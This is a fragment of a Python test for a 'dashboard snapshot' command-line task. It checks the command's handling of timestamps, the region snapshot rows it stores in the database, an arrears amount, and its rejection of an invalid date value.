    result = runner.invoke(args=["dashboard", "snapshot", "--now", "2020-12-11T20:00+08:00"])
    assert result.exit_code == 0, result.output
    assert "2020-12-11: 3 regions" in result.output
    again = runner.invoke(args=["dashboard", "snapshot", "--now", "2020-12-11T21:00"])
    assert again.exit_code == 0
    with app.app_context():
        rows = {r.region: r for r in db.session.scalars(select(clear_zero_snapshots.ClearZeroSnapshot))}
        assert set(rows) == {"532301", "532322", "532323"}
        assert Decimal(rows["532322"].arrears_outstanding) == Decimal("30000.00")
    bad = runner.invoke(args=["dashboard", "snapshot", "--now", "yesterday"])
    assert bad.exit_code != 0 and "--now" in bad.output
